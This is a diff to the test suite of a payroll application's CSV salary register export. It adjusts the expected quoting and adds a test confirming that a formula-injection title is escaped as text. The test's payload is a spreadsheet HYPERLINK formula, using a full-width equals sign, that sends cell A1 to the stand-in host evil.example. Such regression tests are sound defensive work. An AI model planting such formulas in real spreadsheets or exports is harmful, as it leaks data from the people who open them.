@@ -641,12 +641,10 @@ describe('salary report, history and payslip PDFs', () => {
     expect(res.headers['content-type']).toContain('text/csv');
     const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
     expect(lines[0]).toBe(
-      '"Employee","Basic salary","Bonus (allowance)","Meal (allowance)","Allowances","Deductions","Advances","Net pay"',
+      'Employee,Basic salary,Bonus (allowance),Meal (allowance),Allowances,Deductions,Advances,Net pay',
     );
-    expect(lines).toContain(
-      '"Zed Report","1200.00","70.00","30.00","100.00","0.00","0.00","1300.00"',
-    );
-    expect(lines.at(-1)).toBe('"Total","2000.00","70.00","30.00","100.00","0.00","0.00","2100.00"');
+    expect(lines).toContain('Zed Report,1200.00,70.00,30.00,100.00,0.00,0.00,1300.00');
+    expect(lines.at(-1)).toBe('Total,2000.00,70.00,30.00,100.00,0.00,0.00,2100.00');
   });
 
   it('gives an employee’s history with year-to-date totals of paid months', async () => {
@@ -740,6 +738,28 @@ describe('salary report, history and payslip PDFs', () => {
     expect(both).toContain('Zed Report');
     expect(both).toContain('Yara Report');
   }, 60_000);
+
+  it('writes a line title that a spreadsheet would run (full-width forms too) as text', async () => {
+    const vault = await fundedVault('Formula vault', 5_000);
+    const dec = await created('payroll_runs', { year: 2031, month: 6, vault: vault.id });
+    const slip = await payslipOf(dec.id, yara.id);
+    await created('payslip_lines', {
+      payslip: slip.id,
+      kind: 'allowance',
+      title: '\uff1dHYPERLINK("http://evil.example/?"&A1,"Open")',
+      amount: 5,
+    });
+    const res = await t.app.inject({
+      method: 'GET',
+      url: '/api/payroll/register.csv?year=2031&month=6',
+      headers: admin(),
+    });
+    expect(res.statusCode).toBe(200);
+    const header = res.body.replace(/^\uFEFF/, '').split('\r\n')[0];
+    expect(header).toContain(
+      `"'\uff1dHYPERLINK(""http://evil.example/?""&A1,""Open"") (allowance)"`,
+    );
+  });
 });
 
 describe('demo data', () => {
